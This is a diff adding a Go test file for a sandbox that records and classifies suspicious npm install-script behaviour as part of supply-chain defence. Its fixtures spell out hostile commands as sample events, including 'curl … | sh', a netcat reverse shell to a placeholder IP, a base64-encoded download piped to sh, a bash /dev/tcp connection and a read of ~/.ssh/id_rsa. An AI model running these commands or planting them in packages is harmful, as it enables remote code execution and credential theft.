@@ -1,0 +1,251 @@
+package behaviour
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/phylum-box/phylum-box/container"
+)
+
+// fakeProcs stands in for the host's /proc: pid → parent, liveness, command line.
+type fakeProcs map[int]fakeProc
+
+type fakeProc struct {
+	parent int
+	dead   bool
+	argv   []string
+}
+
+func (f fakeProcs) reader(pid int) procReader { return fakeOne{f, pid} }
+
+type fakeOne struct {
+	f   fakeProcs
+	pid int
+}
+
+func (o fakeOne) ppid() int         { return o.f[o.pid].parent }
+func (o fakeOne) alive() bool       { p, ok := o.f[o.pid]; return ok && !p.dead }
+func (o fakeOne) cmdline() []string { return o.f[o.pid].argv }
+
+func newTestRecorder(eco string, procs fakeProcs) *Recorder {
+	r, err := NewRecorder(eco, nil)
+	if err != nil {
+		panic(err)
+	}
+	r.procs = procs.reader
+	r.d = &Decoys{Canary: "0123456789abcdef", Home: "/home/u"}
+	return r
+}
+
+var evilEnv = map[string]string{"npm_package_name": "evil", "npm_package_version": "6.6.6", "npm_lifecycle_event": "postinstall"}
+
+func exec(pid int, env map[string]string, cwd string, argv ...string) container.SyscallEvent {
+	return container.SyscallEvent{Pid: pid, Syscall: "execve", Path: argv[0], Argv: argv, Env: env, Cwd: cwd}
+}
+
+func call(pid int, env map[string]string, syscall, addr string) container.SyscallEvent {
+	return container.SyscallEvent{Pid: pid, Syscall: syscall, Addr: addr, Env: env, Cwd: "/p"}
+}
+
+// summary renders observations as "owner RULE severity" lines.
+func summary(obs []Observation) string {
+	var b strings.Builder
+	for _, o := range obs {
+		m := ""
+		if o.Manager {
+			m = " (manager)"
+		}
+		fmt.Fprintf(&b, "%s %s %s%s\n", o.Owner(), o.Rule, o.Severity, m)
+	}
+	return b.String()
+}
+
+func TestRules(t *testing.T) {
+	// pid 10 is npm (the manager), 20 the package's `sh -c` script, 30 its child.
+	procs := fakeProcs{
+		10: {parent: 1, argv: []string{"node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"}},
+		20: {parent: 10}, 30: {parent: 20}, 31: {parent: 30}, 40: {parent: 10},
+	}
+	script := func(r *Recorder, env map[string]string, cmd string) {
+		r.OnEvent(exec(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
+		r.OnEvent(exec(20, env, "/p/node_modules/x", "sh", "-c", cmd))
+	}
+	for _, tt := range []struct {
+		name   string
+		events func(r *Recorder)
+		want   string
+	}{
+		{"connect to a host", func(r *Recorder) {
+			script(r, evilEnv, "node install.js")
+			r.OnEvent(exec(30, evilEnv, "/p/node_modules/evil", "node", "install.js"))
+			r.OnEvent(call(30, evilEnv, "connect", "203.0.113.9:443"))
+			r.OnEvent(call(30, evilEnv, "connect", "[2001:db8::1]:443"))
+		}, "evil@6.6.6 PB-BEHAVIOUR-NETWORK high\n"},
+		{"DNS to the resolver on loopback", func(r *Recorder) {
+			script(r, evilEnv, "node install.js")
+			r.OnEvent(call(20, evilEnv, "sendto", "127.0.0.53:53"))
+		}, "evil@6.6.6 PB-BEHAVIOUR-NETWORK high\n"},
+		{"twin: loopback, unix sockets and netlink are not the network", func(r *Recorder) {
+			script(r, evilEnv, "node test-server.js")
+			r.OnEvent(call(20, evilEnv, "connect", "127.0.0.1:8080"))
+			r.OnEvent(call(20, evilEnv, "connect", "[::1]:3000"))
+			r.OnEvent(call(20, evilEnv, "connect", "unix:/tmp/esbuild.sock"))
+			r.OnEvent(call(20, evilEnv, "sendto", "netlink"))
+			r.OnEvent(call(20, evilEnv, "sendmsg", "unix:@abstract"))
+			r.OnEvent(call(20, evilEnv, "connect", "family 0"))
+		}, ""},
+		{"a child that cleared its environment is still the package's", func(r *Recorder) {
+			script(r, evilEnv, "env -i node x.js")
+			r.OnEvent(exec(30, nil, "/", "node", "x.js"))
+			r.OnEvent(call(30, nil, "connect", "198.51.100.7:80"))
+		}, "evil@6.6.6 PB-BEHAVIOUR-NETWORK high\n"},
+		{"prebuild-install's download attempt is a warning", func(r *Recorder) {
+			env := map[string]string{"npm_package_name": "better-sqlite3", "npm_package_version": "9.4.3"}
+			script(r, env, "prebuild-install || node-gyp rebuild --release")
+			r.OnEvent(exec(30, env, "/p/node_modules/better-sqlite3", "node", "/p/node_modules/.bin/prebuild-install"))
+			r.OnEvent(call(30, env, "connect", "127.0.0.53:53"))
+		}, "better-sqlite3@9.4.3 PB-BEHAVIOUR-NETWORK medium\n"},
+		{"the manager's own attempt is marked", func(r *Recorder) {
+			r.OnEvent(exec(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
+			r.OnEvent(call(10, nil, "connect", "104.16.0.35:443"))
+		}, "the package manager PB-BEHAVIOUR-NETWORK high (manager)\n"},
+		{"an unattributable process is not the manager", func(r *Recorder) {
+			r.OnEvent(exec(40, nil, "/", "node", "-e", "require('net').connect(443,'x')"))
+			r.OnEvent(call(40, nil, "connect", "192.0.2.1:443"))
+		}, "an unidentified process PB-BEHAVIOUR-NETWORK high\n"},
+		{"curl", func(r *Recorder) {
+			script(r, evilEnv, "curl -s https://x.example/p | sh || true")
+			r.OnEvent(exec(30, evilEnv, "/p/node_modules/evil", "/usr/bin/curl", "-s", "https://x.example/p"))
+		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
+		{"wget, nc, powershell", func(r *Recorder) {
+			script(r, evilEnv, "true")
+			r.OnEvent(exec(30, evilEnv, "/p", "wget", "-q", "http://x"))
+			r.OnEvent(exec(31, evilEnv, "/p", "nc", "-e", "/bin/sh", "192.0.2.1", "4444"))
+			r.OnEvent(exec(30, evilEnv, "/p", "pwsh", "-c", "iwr"))
+		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
+		{"base64 decoded into a shell", func(r *Recorder) {
+			script(r, evilEnv, "echo Y3VybCB4fHNo | base64 -d | sh")
+		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
+		{"bash /dev/tcp", func(r *Recorder) {
+			script(r, evilEnv, "exec 3<>/dev/tcp/203.0.113.9/443 || true")
+		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
+		{"twin: node-gyp runs python, make and cc; husky runs git; esbuild runs node", func(r *Recorder) {
+			env := map[string]string{"npm_package_name": "bcrypt", "npm_package_version": "5.1.1"}
+			script(r, env, "node-pre-gyp install --fallback-to-build")
+			for i, argv := range [][]string{
+				{"node", "/p/node_modules/.bin/node-gyp", "rebuild"},
+				{"/usr/bin/python3", "/p/node_modules/node-gyp/gyp/gyp_main.py", "binding.gyp"},
+				{"make", "BUILDTYPE=Release", "-C", "build"},
+				{"cc", "-o", "Release/obj.target/bcrypt_lib/src/blowfish.o", "-c", "../src/blowfish.cc"},
+				{"g++", "-shared", "-o", "Release/obj.target/bcrypt_lib.node"},
+				{"sh", "-c", "git rev-parse --git-dir && git config core.hooksPath .husky"},
+				{"git", "config", "core.hooksPath", ".husky"},
+				{"node", "install.js"},
+				{"sh", "-c", "node ./scripts/postinstall.js || echo 'curl is not needed'"},
+				{"sh", "-c", "test -f dist/x || (echo building; npm run build)"},
+			} {
+				r.OnEvent(exec(30+i%2, env, "/p/node_modules/bcrypt", argv...))
+			}
+		}, ""},
+		{"setsid", func(r *Recorder) {
+			script(r, evilEnv, "setsid node daemon.js &")
+			r.OnEvent(call(30, evilEnv, "setsid", ""))
+		}, "evil@6.6.6 PB-BEHAVIOUR-DETACH medium\n"},
+		{"refused calls", func(r *Recorder) {
+			script(r, evilEnv, "node x.js")
+			r.OnEvent(container.SyscallEvent{Pid: 20, Syscall: "ptrace", Refused: true, Env: evilEnv})
+			r.OnEvent(container.SyscallEvent{Pid: 20, Syscall: "unshare", Refused: true, Env: evilEnv})
+		}, "evil@6.6.6 PB-BEHAVIOUR-REFUSED-SYSCALL medium\n"},
+		{"the canary in a program's arguments", func(r *Recorder) {
+			script(r, evilEnv, "node x.js")
+			r.OnEvent(exec(30, evilEnv, "/p", "node", "-e", "send('AKIA0123456789ABCDEF')"))
+		}, "evil@6.6.6 PB-BEHAVIOUR-CANARY high\n"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			r := newTestRecorder("npm", procs)
+			tt.events(r)
+			r.Close()
+			if got := summary(r.Findings()); got != tt.want {
+				t.Errorf("observations:\n%swant:\n%s", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestEvidenceDeduplicatedAndCapped(t *testing.T) {
+	r := newTestRecorder("npm", fakeProcs{20: {parent: 1}})
+	r.OnEvent(exec(20, evilEnv, "/p", "node", "x.js"))
+	for i := 0; i < 3; i++ {
+		r.OnEvent(call(20, evilEnv, "connect", "203.0.113.9:443"))
+	}
+	for i := 0; i < 9; i++ {
+		r.OnEvent(call(20, evilEnv, "connect", fmt.Sprintf("203.0.113.%d:443", 10+i)))
+	}
+	obs := r.Findings()
+	if len(obs) != 1 {
+		t.Fatalf("observations: %s", summary(obs))
+	}
+	ev := obs[0].Evidence
+	if len(ev) != maxEvidence+1 || ev[0] != "pid 20 node x.js: connect 203.0.113.9:443" || ev[maxEvidence] != "… and 5 more" {
+		t.Errorf("evidence = %q", ev)
+	}
+}
+
+func TestTouchAttribution(t *testing.T) {
+	secret := DecoyTouch{Path: "~/.ssh/id_rsa", Secret: true, Op: "opened"}
+	a := map[string]string{"npm_package_name": "a", "npm_package_version": "1.0.0"}
+	b := map[string]string{"npm_package_name": "b", "npm_package_version": "2.0.0"}
+	for _, tt := range []struct {
+		name  string
+		procs fakeProcs
+		want  string
+	}{
+		{"one script running", fakeProcs{20: {}, 21: {dead: true}}, "a@1.0.0 PB-BEHAVIOUR-SECRET-READ high\n"},
+		{"two running: both candidates", fakeProcs{20: {}, 21: {}}, "one of a@1.0.0, b@2.0.0 PB-BEHAVIOUR-SECRET-READ high\n"},
+		{"none running any more: those that ran", fakeProcs{20: {dead: true}, 21: {dead: true}}, "one of a@1.0.0, b@2.0.0 PB-BEHAVIOUR-SECRET-READ high\n"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			r := newTestRecorder("npm", tt.procs)
+			r.OnEvent(exec(20, a, "/p", "sh", "-c", "node a.js"))
+			r.OnEvent(exec(21, b, "/p", "sh", "-c", "node b.js"))
+			r.onTouch(secret)
+			r.onTouch(DecoyTouch{Path: "~/.ssh/id_rsa", Secret: true, Op: "read"})
+			if got := summary(r.Findings()); got != tt.want {
+				t.Errorf("observations:\n%swant:\n%s", got, tt.want)
+			}
+		})
+	}
+	// No package code ran at all: not attributable.
+	r := newTestRecorder("npm", fakeProcs{})
+	r.onTouch(DecoyTouch{Path: "~/.bashrc", Op: "modified"})
+	if got, want := summary(r.Findings()), "an unidentified process PB-BEHAVIOUR-PERSISTENCE high\n"; got != want {
+		t.Errorf("observations:\n%swant:\n%s", got, want)
+	}
+}
+
+func TestIsManager(t *testing.T) {
+	for _, tt := range []struct {
+		eco  string
+		argv []string
+		want bool
+	}{
+		{"npm", []string{"npm", "ci"}, true},
+		{"npm", []string{"/usr/bin/node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"}, true},
+		{"npm", []string{"node", "/p/.yarn/releases/yarn-4.1.0.cjs", "install"}, true},
+		{"npm", []string{"node", "/usr/lib/node_modules/pnpm/bin/pnpm.cjs", "rebuild"}, true},
+		{"npm", []string{"node", "install.js"}, false},
+		{"npm", []string{"sh", "-c", "npm run build"}, false},
+		{"PyPI", []string{"python3", "-m", "pip", "install"}, true},
+		{"PyPI", []string{"/venv/bin/python", "/usr/lib/python3/dist-packages/pip/__pip-runner__.py", "install"}, true},
+		{"PyPI", []string{"python3", "setup.py", "egg_info"}, false},
+		{"crates.io", []string{"cargo", "build"}, true},
+		{"crates.io", []string{"/p/target/debug/build/x-1/build-script-build"}, false},
+		{"RubyGems", []string{"ruby", "/usr/bin/bundle", "install"}, true},
+		{"RubyGems", []string{"ruby", "extconf.rb"}, false},
+	} {
+		if got := isManager(tt.eco, tt.argv); got != tt.want {
+			t.Errorf("isManager(%s, %q) = %v, want %v", tt.eco, tt.argv, got, tt.want)
+		}
+	}
+}
